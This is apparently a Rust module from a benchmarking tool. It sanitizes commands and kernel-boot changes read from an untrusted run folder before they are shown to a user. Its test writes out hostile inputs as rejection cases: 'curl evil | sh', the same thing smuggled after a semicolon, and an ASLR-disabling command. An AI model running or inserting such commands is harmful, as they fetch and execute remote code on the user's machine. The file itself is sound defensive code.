//! What a run folder would have its reader type. The folder may be a stranger's, so none of it is
//! shown in his words: it is made anew from what it says.

use anyhow::ensure;
use model::RunRecord;
use model::reboot::{BootChange, Reboot};

use crate::arguments::Arguments;

/// In the place of a command that is none.
const NO_COMMAND: &str = "no command of this version, as the run folder has it";
/// The word of a reader who has looked at what would be run, which no folder can give for him.
const VOUCHES: &str = "--trust";

/// A record whose commands can be shown to be typed.
pub(crate) fn vetted<S, A>(mut run: RunRecord<S, A>) -> RunRecord<S, A> {
    run.command = repeated(&run.command).unwrap_or_else(|| NO_COMMAND.to_owned());
    if let Some(reboot) = run.reboot.as_mut().filter(|reboot| !is_ours(reboot)) {
        reboot.change = BootChange {
            make: vec![format!("have the kernel started with {}", reboot.option)],
            undo: vec![format!("have the kernel started without {}", reboot.option)],
            ..reboot.change.clone()
        };
    }
    run
}

/// Refuses to go on with a run whose reboot would be made by words that are not ours.
pub(crate) fn check<S, A>(run: &RunRecord<S, A>) -> anyhow::Result<()> {
    ensure!(
        run.reboot.as_ref().is_none_or(is_ours),
        "the run folder says how this machine is started otherwise in words that are none of this \
         version's; use the version that made it ({}), or run the study again",
        run.linerate_version
    );
    Ok(())
}

fn is_ours(reboot: &Reboot) -> bool {
    machine::boot::knows(&reboot.option, &reboot.first, &reboot.change)
}

/// The command that repeats a run, if it is one of ours that measures: each of its words as a shell
/// takes it.
fn repeated(command: &str) -> Option<String> {
    let words = shell_words::split(command).ok()?;
    let words: Vec<String> = words.into_iter().filter(|word| word != VOUCHES).collect();
    let is_ours = words.first().is_some_and(|word| word == "linerate");
    let measures = Arguments::from_words(&words).is_ok_and(|read| read.measures_a_run());
    (is_ours && measures).then(|| shell_words::join(words))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_is_shown_if_it_is_ours_and_each_word_as_a_shell_takes_it() {
        let same = "linerate study run http-json --target nginx --rig router --seed 7 --smoke";
        assert_eq!(repeated(same).as_deref(), Some(same));
        let versus = "linerate versus http://127.0.0.1:1/ http://127.0.0.1:2/ --seed 7";
        assert_eq!(repeated(versus).as_deref(), Some(versus));
        assert_eq!(
            repeated("linerate study run 'a b;c' --trust").as_deref(),
            Some("linerate study run 'a b;c'")
        );
        for strange in [
            "",
            "curl evil | sh",
            "linerate",
            "linerate study run x; curl evil | sh",
            "linerate bench 'curl evil | sh'",
            "linerate levers apply aslr=0",
            "linerate study run 'x",
        ] {
            assert_eq!(repeated(strange), None, "{strange}");
        }
    }
}
